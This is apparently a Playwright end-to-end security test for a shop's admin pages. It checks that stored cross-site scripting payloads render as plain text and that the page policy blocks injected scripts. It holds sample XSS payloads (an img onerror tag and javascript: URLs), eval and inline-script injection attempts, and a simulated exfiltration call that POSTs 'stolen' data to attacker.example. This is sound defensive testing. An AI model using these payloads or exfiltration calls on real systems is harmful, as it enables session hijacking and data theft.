import { launchBrowser } from '@spade/testkit/browser';
import { showBuiltPage } from '@spade/testkit/built-page';
import { drawPicture } from '@spade/testkit/pictures';
import { runningSystem } from '@spade/testkit/running-system';
import type { Browser, Page } from 'playwright-core';
import { Visitor } from '../src/visitor.ts';

const attacked = runningSystem();
const SCRIPT = '<img src=x onerror="window.attacked=1">';

/** Fields that lead somewhere, where a script would be an address. */
const ADDRESSES = /^(imageUrl|domain)$/;
/** What the screen reckons with, and so cannot be any text: numbers, moments, ids, words of a list. */
const FIXED = /^(-?\d[\d.]*|\d{4}-\d\d-\d\d.*|[a-z_]+|[\w-]{22}|[\da-f-]{36}|\/api\/.*)?$/;

/**
 * A response with a script in each of its texts, as if one had got past our checks: through the store, a
 * colleague's account or the database.
 */
function poisoned(value: unknown, name = ''): unknown {
  if (Array.isArray(value)) return value.map((item) => poisoned(item, name));
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([key, v]) => [key, poisoned(v, key)]));
  }
  if (ADDRESSES.test(name)) return `javascript:window.attacked=2//${SCRIPT}`;
  // Texts that are not there in most orders.
  if (value === null && /reason|error|note|sku|tags|description/i.test(name)) return SCRIPT;
  return typeof value === 'string' && !FIXED.test(value) ? `${value} ${SCRIPT}` : value;
}

/** A run of the sync in which everything that can be said is said. */
const run = {
  runId: '00000000-0000-4000-8000-000000000001',
  jobId: '1',
  requestedBy: 'Another Admin',
  state: 'failed',
  startedAt: '2026-11-21T09:00:00.000Z',
  endedAt: '2026-11-21T09:01:00.000Z',
  fetched: 2,
  changed: 1,
  retired: 0,
  refused: 1,
  total: null,
  error: 'The store said no.',
  refusals: [{ shopifyId: 'gid://shopify/Product/1', reason: 'title: is blank' }],
};

describe('a script that a visitor stored, and one in every text that the API answers', () => {
  let browser: Browser;
  let page: Page;
  let refused: string[];
  let orderId: string;

  beforeAll(async () => {
    const origin = attacked.siteUrl;
    const visitor = new Visitor(origin);
    const placed = await visitor.send('/api/orders', await visitor.orderForm(SCRIPT));
    const { data } = (await placed.json()) as { data: { orderId: string } }; // gateway/openapi.json
    orderId = data.orderId;
    await visitor.upload(`/api/orders/${orderId}/payment-proof`, await drawPicture());
    await visitor.send('/api/contact', visitor.contactForm(SCRIPT));
    browser = await launchBrowser();
    const context = await browser.newContext({
      baseURL: origin,
      viewport: { width: 1280, height: 900 },
    });
    await context.addInitScript((t) => localStorage.setItem('adminToken', t), attacked.token);
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
    page.on('console', (message) => {
      // A blocked picture address is not a script.
      const isPicture = message.text().startsWith('Loading the image');
      if (/content security policy/i.test(message.text()) && !isPicture) {
        refused.push(message.text());
      }
    });
    await page.route('**/api/**', async (route) => {
      const answer = await route.fetch();
      const type = answer.headers()['content-type'] ?? '';
      if (!type.includes('json')) return route.fulfill({ response: answer });
      const body = (await answer.json()) as { data?: { runs?: unknown[] } };
      if (body.data?.runs) body.data.runs = [run];
      return route.fulfill({ response: answer, json: poisoned(body) });
    });
  });
  beforeEach(() => {
    refused = [];
  });
  afterAll(() => browser.close());

  /** The script must appear as text `atLeast` times, and must not have run. */
  async function expectRead(atLeast: number): Promise<void> {
    await page
      .getByText(SCRIPT)
      .nth(atLeast - 1)
      .waitFor({ state: 'attached' });
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    expect(await page.locator('[onerror], [href^="javascript:" i], iframe').count()).toBe(0);
    expect(refused).toEqual([]);
  }

  it.each([
    ['on the dashboard', () => '/admin', 2],
    ['in the table of orders', () => '/admin/orders', 2],
    ["on the buyer's own page", () => `/orders/${orderId}`, 1],
  ])('is text %s', async (_where, path, atLeast) => {
    await page.goto(path());
    await expectRead(atLeast);
  });

  it('is text in an order with its proof, its history and what the store says of it', async () => {
    const answer = await fetch(`${attacked.gatewayUrl}/api/orders?status=awaiting_confirmation`, {
      headers: { authorization: `Bearer ${attacked.token}` },
    });
    const { data } = (await answer.json()) as { data: { id: number }[] }; // gateway/openapi.json
    await page.goto(`/admin/orders?order=${data[0]?.id}&step=confirm`);
    const order = page.getByRole('region', { name: 'Open order' });
    await order.getByText(SCRIPT).nth(5).waitFor({ state: 'attached' });
    await expectRead(6);
  });

  it('is text in the messages', async () => {
    await page.goto('/admin?tab=messages');
    await page.getByRole('tab', { name: 'Messages' }).click();
    await expectRead(2);
  });

  it('is text in the history of the sync: what the store said, and who asked', async () => {
    await page.goto('/admin');
    await page.getByRole('tab', { name: 'Shopify Sync' }).click();
    await page.getByText(`The store said no. ${SCRIPT}`).waitFor();
    await expectRead(2);
  });

  // The page of the pages server has its own test: frontend/server/shopPages.spec.ts.
  it('is text in the marketplace that fetches its products itself', async () => {
    await showBuiltPage(page, '**/marketplace', 'marketplace');
    await page.goto('/marketplace');
    await expectRead(4);
  });
});

describe('the policy of the pages', () => {
  it('stops a script that got into a page all the same', async () => {
    const browser = await launchBrowser();
    try {
      const page = await browser.newPage();
      await page.goto(`${attacked.siteUrl}/admin/login`);
      const outcome = await page.evaluate(async () => {
        const violations: string[] = [];
        const reported = Promise.withResolvers<void>();
        // The debugger's own call may use eval whatever the policy says; what comes after it may not.
        await new Promise((resolve) => setTimeout(resolve, 50));
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          violations.push(effectiveDirective);
          const meant = ['connect-src', 'require-trusted-types-for'];
          if (meant.every((directive) => violations.includes(directive))) reported.resolve();
        });
        const tried: string[] = [];
        const attempt = (name: string, act: () => void) => {
          try {
            act();
          } catch {
            tried.push(`${name} threw`);
          }
        };
        attempt('innerHTML', () => {
          document.body.innerHTML = '<img src=x onerror="window.attacked=1">';
        });
        attempt('inline', () => {
          const script = document.createElement('script');
          script.append('window.attacked=2');
          document.head.append(script);
        });
        attempt('eval', () => {
          // By its name, as smuggled-in code would reach it.
          Reflect.get(window, 'eval')('window.attacked=3');
        });
        attempt('foreign', () => {
          const script = document.createElement('script');
          script.setAttribute('src', 'https://attacker.example/x.js');
          document.head.append(script);
        });
        await fetch('https://attacker.example/', { method: 'POST', body: 'stolen' }).catch(() =>
          tried.push('fetch threw'),
        );
        await reported.promise;
        return { tried, isAttacked: 'attacked' in window };
      });
      expect(outcome.isAttacked).toBe(false);
      expect(outcome.tried).toEqual(
        expect.arrayContaining(['innerHTML threw', 'eval threw', 'fetch threw']),
      );
    } finally {
      await browser.close();
    }
  });
});
